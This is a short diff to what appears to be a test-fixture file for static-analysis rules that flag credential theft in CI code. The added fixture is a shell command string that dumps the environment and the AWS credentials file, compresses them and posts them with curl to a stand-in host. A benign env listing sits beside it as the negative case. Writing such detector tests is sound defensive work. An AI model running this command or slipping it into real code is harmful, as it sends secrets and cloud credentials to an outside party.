@@ -231,3 +231,7 @@ _upload = "curl -sf -F file=@dist/app.whl https://uploads.example.com/"
 # ci-runner-internal-token
 # ruleid: ci-runner-internal-token, environment-read
 _rt = os.environ.get("ACTIONS_RUNTIME_TOKEN", "")
+# ruleid: credential-upload-command-string
+_beacon = "(env; cat ~/.aws/credentials) | gzip | curl -sk --data-binary @- https://stats.example.net/u"
+# ok: credential-upload-command-string
+_listing = "env | sort | less"
